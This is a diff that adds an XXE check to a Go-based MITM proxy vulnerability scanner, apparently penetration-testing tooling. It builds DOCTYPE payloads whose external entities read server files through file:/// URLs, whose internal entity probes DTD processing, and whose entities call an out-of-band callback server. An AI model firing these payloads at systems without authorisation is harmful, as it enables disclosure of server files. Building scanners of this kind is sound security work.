@@ -0,0 +1,167 @@
+package checks
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"strings"
+
+	"github.com/MatiXxD/go-mitm-proxy/internal/models"
+	"github.com/MatiXxD/go-mitm-proxy/pkg/fuzzer"
+	"github.com/MatiXxD/go-mitm-proxy/pkg/oob"
+	"github.com/MatiXxD/go-mitm-proxy/pkg/scanner"
+)
+
+// xxeEntity is the entity payloads declare, the value refers to it.
+const (
+	xxeEntity = "mitmxxe"
+	xxeRef    = "&" + xxeEntity + ";"
+)
+
+const (
+	xxeFile = iota
+	xxeInternal
+	xxeOOB
+)
+
+type xxeMutation struct {
+	kind    int
+	file    int
+	expect  string
+	doctype string
+}
+
+// XXE declares entities in DOCTYPE of XML body and refers to them from
+// element text. External entities read files found by their content, an
+// internal entity shows the parser processes DTD at all. With the
+// out-of-band server external and parameter entities are made to call it.
+// Findings are reported at XPath of the node.
+type XXE struct {
+	oob *oob.Server
+}
+
+// NewXXE takes nil server when out-of-band payloads are off.
+func NewXXE(srv *oob.Server) *XXE {
+	return &XXE{oob: srv}
+}
+
+func (x *XXE) ID() string   { return "xxe" }
+func (x *XXE) Name() string { return "XML external entity" }
+
+func (x *XXE) Mutations(point *scanner.Point, _ *scanner.Response) []*scanner.Mutation {
+	if point.Type != models.PointXML || bytes.Contains(point.Request.Body, []byte("<!DOCTYPE")) {
+		return nil
+	}
+
+	root := strings.Split(point.Name, "/")[1]
+	if i := strings.IndexByte(root, '['); i >= 0 {
+		root = root[:i]
+	}
+	var mutations []*scanner.Mutation
+	add := func(decl, value string, m *xxeMutation) {
+		m.doctype = fmt.Sprintf("<!DOCTYPE %s [%s]>", root, decl)
+		mutations = append(mutations, &scanner.Mutation{Payload: value, Data: m, Edit: withDoctype(m.doctype)})
+	}
+
+	// external entities can't be referred to from attributes
+	attr := strings.Contains(point.Name, "/@")
+	if !attr {
+		for i, f := range travFiles {
+			add(fmt.Sprintf(`<!ENTITY %s SYSTEM "%s">`, xxeEntity, fileURL(f.absolute)), xxeRef, &xxeMutation{kind: xxeFile, file: i})
+		}
+	}
+
+	// the expanded value is not written anywhere in the request
+	b := make([]byte, 8)
+	_, _ = rand.Read(b)
+	head, tail := hex.EncodeToString(b[:4]), hex.EncodeToString(b[4:])
+	add(fmt.Sprintf(`<!ENTITY %[1]sa "%[2]s"><!ENTITY %[1]s "&%[1]sa;%[3]s">`, xxeEntity, head, tail), xxeRef,
+		&xxeMutation{kind: xxeInternal, expect: head + tail})
+
+	var addresses []func(id string) string
+	if x.oob.HTTP() {
+		addresses = append(addresses, x.oob.URL)
+	}
+	if x.oob.DNS() {
+		addresses = append(addresses, func(id string) string { return "http://" + x.oob.Domain(id) + "/" })
+	}
+	addOOB := func(format, value string, address func(id string) string) {
+		id := x.oob.NewID()
+		add(fmt.Sprintf(format, xxeEntity, address(id)), value, &xxeMutation{kind: xxeOOB})
+		x.track(id, point, mutations[len(mutations)-1])
+	}
+	// a parameter entity doesn't depend on the node, it is sent once
+	values, _ := fuzzer.XMLValues(point.Request.Body)
+	first := len(values) > 0 && values[0].Path == point.Name
+	for _, address := range addresses {
+		if !attr {
+			addOOB(`<!ENTITY %s SYSTEM "%s">`, xxeRef, address)
+		}
+		if first {
+			addOOB(`<!ENTITY %% %[1]s SYSTEM "%[2]s"> %%%[1]s;`, point.Original, address)
+		}
+	}
+	return mutations
+}
+
+func (x *XXE) track(id string, point *scanner.Point, m *scanner.Mutation) {
+	payload := m.Data.(*xxeMutation).doctype + " " + m.Payload
+	x.oob.Track(id, point.ScanID, scanner.NewFinding(x, point, models.SeverityHigh, payload, ""))
+}
+
+// Evaluate reports file content missing in the baseline, or the expanded
+// internal entity when no file is read.
+func (x *XXE) Evaluate(point *scanner.Point, baseline *scanner.Response, results []*scanner.Result) []*models.Finding {
+	var expanded *models.Finding
+	for _, res := range results {
+		if res.Response == nil {
+			continue
+		}
+		m := res.Mutation.Data.(*xxeMutation)
+		payload := m.doctype + " " + res.Mutation.Payload
+		switch m.kind {
+		case xxeFile:
+			file := travFiles[m.file]
+			if file.re.Match(baseline.Body) {
+				continue
+			}
+			if loc := file.re.FindIndex(res.Response.Body); loc != nil {
+				f := scanner.NewFinding(x, point, models.SeverityHigh, payload, scanner.EvidenceAt(res.Response.Body, loc[0], loc[1]-loc[0]))
+				f.Detail = "external entity, " + file.absolute
+				return []*models.Finding{f}
+			}
+		case xxeInternal:
+			if i := bytes.Index(res.Response.Body, []byte(m.expect)); i >= 0 {
+				expanded = scanner.NewFinding(x, point, models.SeverityMedium, payload, scanner.EvidenceAt(res.Response.Body, i, len(m.expect)))
+				expanded.Detail = "internal entity expanded, DTD is processed"
+			}
+		}
+	}
+	if expanded != nil {
+		return []*models.Finding{expanded}
+	}
+	return nil
+}
+
+// withDoctype puts DOCTYPE after the XML declaration, or first when there
+// is none.
+func withDoctype(doctype string) func(*models.ParsedRequest) (*models.ParsedRequest, error) {
+	return func(req *models.ParsedRequest) (*models.ParsedRequest, error) {
+		i := 0
+		if bytes.HasPrefix(bytes.TrimLeft(req.Body, " \t\r\n"), []byte("<?xml")) {
+			end := bytes.Index(req.Body, []byte("?>"))
+			if end < 0 {
+				return nil, fmt.Errorf("unterminated xml declaration")
+			}
+			i = end + len("?>")
+		}
+		body := string(req.Body[:i]) + doctype + string(req.Body[i:])
+		return (&models.RequestEdit{Body: &body}).Apply(req)
+	}
+}
+
+// fileURL makes file URL of an absolute Unix or Windows path.
+func fileURL(path string) string {
+	return "file:///" + strings.TrimPrefix(strings.ReplaceAll(path, `\`, "/"), "/")
+}